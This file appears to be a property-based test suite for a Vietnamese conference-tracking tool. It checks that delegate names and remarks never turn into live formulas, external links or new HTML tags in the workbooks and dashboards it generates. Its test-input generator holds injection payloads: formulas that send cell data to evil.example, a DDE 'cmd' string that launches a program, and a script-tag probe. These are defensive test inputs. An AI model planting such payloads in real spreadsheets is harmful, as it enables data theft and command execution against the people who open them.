import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { assess } from "../../src/commands/assess.ts";
import { consolidate, dashboard, trackingBook } from "../../src/commands/consolidate.ts";
import { newEntryWorkbook, newOfficeWorkbook } from "../../src/commands/set-up.ts";
import { loadPackage } from "../../src/hosts/local/edition-seed.ts";
import { markCopy } from "../../src/hosts/local/mark-copy.ts";
import { writeXlsx } from "../../src/hosts/local/write-xlsx.ts";
import { messageOf, sentenceOf } from "../../src/output/words.vi.ts";
import { editionBoard, editionSnapshot, unitRow } from "../support/edition-fixture.ts";
import { liveFormulas, outerLinks } from "../support/live-formulas.ts";

/** Text that would be something else if it were read in the wrong place. */
const hostile = fc
  .tuple(
    fc.constantFrom("", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff", "'", ";"),
    fc.constantFrom(
      "=",
      "+",
      "-",
      "@",
      "＝",
      "<f>",
      "{",
      "$&",
      "|",
      "]]>",
      "&",
      "_x003D_",
      "#REF!",
    ),
    fc.oneof(
      fc.constantFrom(
        'HYPERLINK("https://evil.example/?d="&A2,"Bấm")',
        'IMPORTXML(CONCAT("https://evil.example/",A2),"//a")',
        "cmd|' /C calc'!A0",
        "1+1",
        "đơn vị}",
        "tên} $1 $$",
        "</f></c></row>",
        "<script>alert(1)</script>",
      ),
      fc.string({ unit: "grapheme", maxLength: 20 }),
    ),
  )
  .map((parts) => parts.join(""));

const texts = fc.record({ name: hostile, title: hostile, remark: hostile, conference: hostile });

interface Texts {
  readonly name: string;
  readonly title: string;
  readonly remark: string;
  readonly conference: string;
}

function fixtureOf({ name, title, remark, conference }: Texts) {
  const delegate = {
    "Đơn vị": "A",
    "Hội nghị": "Đơn vị",
    "Họ và tên": name,
    "Giới tính": "Nam",
    "Chức vụ": remark,
    "Thành phần": "Khách mời",
    "Ghi chú": remark,
  };
  return {
    asOf: "2020-05-08",
    units: [unitRow("A", { Tên: `Phòng ${name}`, "Tổ chức hội nghị": "Có" }), unitRow("VP")],
    settings: { TEN_HOI_NGHI: conference, CO_QUAN: name },
    changes: {
      T01: { Việc: `Gửi ${title}`, "Căn cứ": title },
      DM09: { "Lời nhắc": `{đơn vị}: ${title}` },
    },
    entry: {
      "Đại biểu": [delegate, { ...delegate, "Ngày sinh": remark }],
      "Tiến độ": [{ "Đơn vị": name, "Mã việc": title }],
    },
  };
}

describe("text of other people in the page for the head", () => {
  it("is read as text: no element and no attribute comes of it", () => {
    const skeleton = (page: string) => page.replace(/>[^<]*</g, "><").replace(/"[^"]*"/g, '""');
    const tagsOf = (page: string) => new Set(skeleton(page).match(/<[^>]*>/g));
    const plain = tagsOf(dashboard(editionBoard(fixtureOf(HARMLESS)), { moment: "" }));
    fc.assert(
      fc.property(texts, (typed) => {
        const page = dashboard(editionBoard(fixtureOf(typed)), { moment: typed.remark });
        for (const tag of tagsOf(page)) expect(plain).toContain(tag);
      }),
      { numRuns: 60 },
    );
  });
});

const HARMLESS = { name: "A", title: "B", remark: "C", conference: "D" };

describe("text of other people in the workbooks that the program writes", () => {
  it("is never a live formula or a link to elsewhere in the tracking workbook", async () => {
    await fc.assert(
      fc.asyncProperty(texts, async (typed) => {
        const snapshot = editionSnapshot(fixtureOf(typed));
        const board = assess(snapshot);
        const entry = {
          at: "2020-05-08 07:00",
          who: typed.name,
          what: typed.title,
          before: typed.remark,
          after: typed.conference,
        };
        const mail = {
          key: typed.name,
          day: "2020-05-08",
          kind: "unit-reminder" as const,
          units: [typed.name],
          to: [typed.title],
          cc: [],
          subject: typed.conference,
          code: "AB12",
          state: "FAILED" as const,
          at: "2020-05-08",
          detail: typed.remark,
          steps: [],
        };
        const book = trackingBook(board, snapshot, { ledger: [mail], log: [entry] });
        const bytes = await writeXlsx(book);
        expect(liveFormulas(bytes)).toEqual([]);
        expect(outerLinks(bytes).filter((link) => !link.startsWith("http://schemas."))).toEqual([]);
      }),
      { numRuns: 40 },
    );
  });

  it("is never a live formula in a new edition", async () => {
    const { declarations } = loadPackage();
    const guide = { entry: [], office: [] };
    await fc.assert(
      fc.asyncProperty(texts, async ({ name, title, remark }) => {
        const office = {
          "Đơn vị": [{ Mã: "A", Tên: `P ${name}`, Loại: title }],
          "Danh mục": [{ "Danh sách": "Giới tính", "Giá trị": remark }],
        };
        const seed = { declarations, guide, office };
        const rows = { "Đại biểu": [{ "Đơn vị": name, "Họ và tên": title, "Ghi chú": remark }] };
        const entry = await writeXlsx(newEntryWorkbook(seed, { rows }));
        expect(liveFormulas(entry)).toEqual([]);
        expect(liveFormulas(await writeXlsx(newOfficeWorkbook(seed)))).toEqual([]);
      }),
      { numRuns: 15 },
    );
  });

  it("is never a live formula in a checked copy", async () => {
    const { declarations } = loadPackage();
    const seed = { declarations, guide: { entry: [], office: [] }, office: {} };
    await fc.assert(
      fc.asyncProperty(texts, async (typed) => {
        const fixture = fixtureOf(typed);
        const rows = fixture.entry as Parameters<typeof newEntryWorkbook>[1]["rows"];
        const source = await writeXlsx(newEntryWorkbook(seed, { rows }));
        const snapshot = editionSnapshot(fixture);
        const { copies } = consolidate(assess(snapshot), snapshot);
        expect(copies).toHaveLength(1);
        for (const copy of copies) {
          const before = source.slice();
          const marked = await markCopy(source, copy);
          expect(liveFormulas(marked)).toEqual([]);
          expect(source).toEqual(before);
        }
      }),
      { numRuns: 15 },
    );
  });
});

describe("text of other people in a finding", () => {
  const HARMLESS = [
    "{tên}",
    "{đơn vị} {vượt}",
    "<b>Xuất sắc</b>",
    "$1 $& $$",
    "A & B",
    "{{x}}",
    "[NAM]",
  ];

  it.each(HARMLESS)("stands in the message as it is: %s", (text) => {
    const board = editionBoard(
      fixtureOf({ name: text, title: text, remark: "abc", conference: text }),
    );
    const messages = (code: string) =>
      board.findings.filter(({ rule }) => rule === code).map(messageOf);
    const title = text === "[NAM]" ? "2020" : text;
    expect(messages("T01")).toEqual([expect.stringContaining(`Gửi ${title}: quá hạn`)]);
    if (!text.includes("{")) expect(messages("DM09")).toEqual([`Phòng ${text}: ${title}`]);
  });

  it("is filled into a reminder once, braces of a name left alone", () => {
    const finding = {
      code: "condition-failed",
      severity: "error",
      at: { book: "", sheet: "Đề cử" },
      facts: { unitNames: ["Phòng {tên}"], name: "{đơn vị} $& ; {mức}", value: "<i>; x" },
      message: "{tên} của {đơn vị}: {giá trị}; sửa {tên} lạ {không rõ}.",
    } as const;
    expect(messageOf(finding)).toBe(
      "{đơn vị} $& ; {mức} của Phòng {tên}: <i>; x; sửa {đơn vị} $& ; {mức} lạ {không rõ}.",
    );
    expect(sentenceOf(finding)).toEqual({
      wrong: "{đơn vị} $& ; {mức} của Phòng {tên}: <i>; x.",
      remedy: "Sửa {đơn vị} $& ; {mức} lạ {không rõ}.",
    });
  });
});
